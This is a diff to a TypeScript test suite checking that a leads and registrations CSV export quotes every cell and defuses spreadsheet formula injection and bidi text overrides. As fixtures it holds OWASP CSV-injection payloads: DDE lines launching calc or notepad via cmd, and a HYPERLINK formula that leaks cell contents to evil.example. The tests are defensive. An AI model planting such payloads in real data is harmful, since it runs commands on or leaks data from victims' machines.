@@ -66,25 +66,105 @@ describe("parseLeadsArgs for registrations", () => {
 });
 
 describe("CSV cells", () => {
-  it("defuse formulas: cells starting with =, +, -, @, tab or CR get a leading apostrophe", () => {
-    expect(csvCell('=HYPERLINK("http://evil.example","Click")')).toBe(
-      `"'=HYPERLINK(""http://evil.example"",""Click"")"`,
-    );
-    expect(csvCell("+44 20 7946 0321")).toBe("'+44 20 7946 0321");
-    expect(csvCell("-2+3")).toBe("'-2+3");
-    expect(csvCell("@SUM(A1:A2)")).toBe("'@SUM(A1:A2)");
-    expect(csvCell("\t=1+1")).toBe("'\t=1+1");
-    expect(csvCell("\r=1+1")).toBe(`"'\r=1+1"`);
-  });
-
-  it("quote commas, quotes and line breaks, and leave plain text alone", () => {
-    expect(csvCell("Northwind Logistics")).toBe("Northwind Logistics");
+  it("are all quoted, with quotes doubled", () => {
+    expect(csvCell("Northwind Logistics")).toBe(`"Northwind Logistics"`);
     expect(csvCell("Smith, Jones & Co")).toBe(`"Smith, Jones & Co"`);
     expect(csvCell(`The "big" one`)).toBe(`"The ""big"" one"`);
     expect(csvCell("line one\nline two")).toBe(`"line one\nline two"`);
-    expect(csvCell(null)).toBe("");
+    expect(csvCell(null)).toBe(`""`);
+  });
+
+  it("defuse formulas: a cell starting with =, +, -, @, tab or CR gets a leading apostrophe", () => {
+    expect(csvCell('=HYPERLINK("http://evil.example","Click")')).toBe(
+      `"'=HYPERLINK(""http://evil.example"",""Click"")"`,
+    );
+    expect(csvCell("+44 20 7946 0321")).toBe(`"'+44 20 7946 0321"`);
+    expect(csvCell("-2+3")).toBe(`"'-2+3"`);
+    expect(csvCell("@SUM(A1:A2)")).toBe(`"'@SUM(A1:A2)"`);
+    expect(csvCell("\t=1+1")).toBe(`"'\t'=1+1"`);
+    expect(csvCell("\r=1+1")).toBe(`"'\r'=1+1"`);
+    expect(csvCell(" =1+1")).toBe(`"' =1+1"`);
+  });
+
+  it("defuse the full-width and small forms of the formula characters", () => {
+    for (const start of [
+      "\uFF1D",
+      "\uFF0B",
+      "\uFF0D",
+      "\uFF20",
+      "\uFE66",
+      "\uFE62",
+      "\uFE63",
+      "\uFE6B",
+    ]) {
+      expect(csvCell(`${start}1+2`), start).toBe(`"'${start}1+2"`);
+    }
+  });
+
+  it("defuse a formula that starts after a separator inside the cell", () => {
+    expect(csvCell("Bob;=1+2;@SUM(A1)")).toBe(`"Bob;'=1+2;'@SUM(A1)"`);
+    expect(csvCell("Bob,+1")).toBe(`"Bob,'+1"`);
+    expect(csvCell("Bob\t-1")).toBe(`"Bob\t'-1"`);
+    expect(csvCell("first line\n=1+2")).toBe(`"first line\n'=1+2"`);
+    expect(csvCell("Bob; =1+2")).toBe(`"Bob;' =1+2"`);
+    expect(csvCell(`Bob,"=1+2"`)).toBe(`"Bob,'""=1+2"""`);
+  });
+
+  it("show text direction overrides escaped", () => {
+    expect(csvCell("Invoice \u202Egpj.exe")).toBe(`"Invoice <U+202E>gpj.exe"`);
+    expect(csvCell("\u2066=1+2\u2069")).toBe(`"<U+2066>=1+2<U+2069>"`);
+  });
+
+  // The payloads of OWASP's "CSV Injection" page and its variants: however a
+  // spreadsheet splits the file (comma, semicolon or tab; honouring quotes or
+  // not), no piece it makes starts a formula.
+  const owaspPayloads = [
+    "=1+2",
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    "Bob;=1+2;@SUM(A1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C notepad'!'A1'",
+    "+thespanishinquisition(\\)",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?leak="&A1&A2,"Error: please click for further information")',
+    "\uFF1D1+2",
+    "a\t=1+2",
+    "a\r\n@SUM(1)",
+    "a,  -1",
+    'a,"=1+2"',
+    "a;'@SUM(1)",
+  ];
+  it("leave no formula start in any piece of the row, whatever the separator", () => {
+    const row = owaspPayloads.map(csvCell).join(",");
+    const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/u;
+    for (const separator of [",", ";", "\t", "\n"]) {
+      for (const piece of row.split(separator)) {
+        // An importer that ignores quotes keeps them, or drops them: either way the apostrophe leads.
+        const trimmed = piece.replace(/^[" \u00A0\r\n]+/u, "");
+        if (trimmed.startsWith("'")) continue;
+        expect(trimmed, `a piece after splitting on ${JSON.stringify(separator)}`).not.toMatch(
+          formulaStart,
+        );
+      }
+    }
+    // A reader that honours the quotes gets each value back, apostrophes added.
+    expect(parseCsvRow(row)).toEqual(owaspPayloads.map((payload) => csvCellValue(payload)));
   });
 });
+
+/** The value a spreadsheet shows for a cell: the text with the defusing apostrophes. */
+function csvCellValue(value: string): string {
+  return csvCell(value).slice(1, -1).replaceAll('""', '"');
+}
+
+/** RFC 4180: one row of quoted cells. */
+function parseCsvRow(row: string): string[] {
+  const cells: string[] = [];
+  const pattern = /"((?:[^"]|"")*)"(?:,|$)/gy;
+  for (const match of row.matchAll(pattern)) cells.push(match[1]!.replaceAll('""', '"'));
+  return cells;
+}
 
 function enquiry(overrides: Record<string, string> = {}) {
   const data = new FormData();
@@ -130,6 +210,18 @@ describe.each(testDatabaseKinds)("the leads command on %s", (kind) => {
     expect(lines).toContain("2 leads");
   });
 
+  it("shows text direction overrides escaped in the table", async () => {
+    await saveLead(
+      db,
+      enquiry({ name: "Ana \u202Eordnas", company: "\u2067Acme\u2069 Ltd" }),
+      new Date("2026-11-03T08:00:00Z"),
+    );
+    const output = await run(["list", "--since", "2026-11-03"]);
+    expect(output).toContain("Ana <U+202E>ordnas");
+    expect(output).toContain("<U+2067>Acme<U+2069> Ltd");
+    expect(output).not.toMatch(/\p{Bidi_Control}/u);
+  });
+
   it("lists only the leads since a date", async () => {
     const output = await run(["list", "--since", "2026-11-01"]);
     expect(output).not.toContain("Early Bird");
@@ -162,14 +254,14 @@ describe.each(testDatabaseKinds)("the leads command on %s", (kind) => {
     const csv = await run(["export", "--format", "csv"]);
     expect(
       csv.startsWith(
-        "\uFEFFreceivedAt,name,email,company,phone,service,budget,message,notifiedAt,id\r\n",
+        `\uFEFF"receivedAt","name","email","company","phone","service","budget","message","notifiedAt","id"\r\n`,
       ),
     ).toBe(true);
     expect(csv).toBe(leadsToCsv(await findLeads(db)));
     const secondRow = csv.split("\r\n")[2]!;
-    expect(secondRow).toContain(`'=cmd|' /C calc'!A0,`);
+    expect(secondRow).toContain(`"'=cmd|' /C calc'!A0",`);
     expect(secondRow).toContain(`"'@Acme, Inc."`);
-    expect(secondRow).toContain(`'+351 21 000 0000`);
+    expect(secondRow).toContain(`"'+351 21 000 0000"`);
     expect(secondRow).toContain(`"'-1 risk to the launch date\nline two"`);
   });
 });
@@ -247,11 +339,12 @@ describe.each(testDatabaseKinds)("the registrations command on %s", (kind) => {
     const csv = await run(["registrations", "--event", roundTable.slug, "--format", "csv"]);
     const rows = csv.split("\r\n");
     expect(rows[0]).toBe(
-      "\uFEFFstatus,place,registeredAt,confirmedAt,name,email,company,jobTitle,Dietary needs or allergies,id",
+      '\uFEFF"status","place","registeredAt","confirmedAt","name","email","company","jobTitle","Dietary needs or allergies","id"',
     );
+    // Every cell quoted, a formula start defused (the enquiries export's rules).
     expect(rows[2]).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
     expect(rows[2]).toContain(`"'@Acme, Inc."`);
-    expect(rows[2]).toContain(`,'-1 nuts,`);
+    expect(rows[2]).toContain(`,"'-1 nuts",`);
     expect(rows).toHaveLength(6);
   });
 });
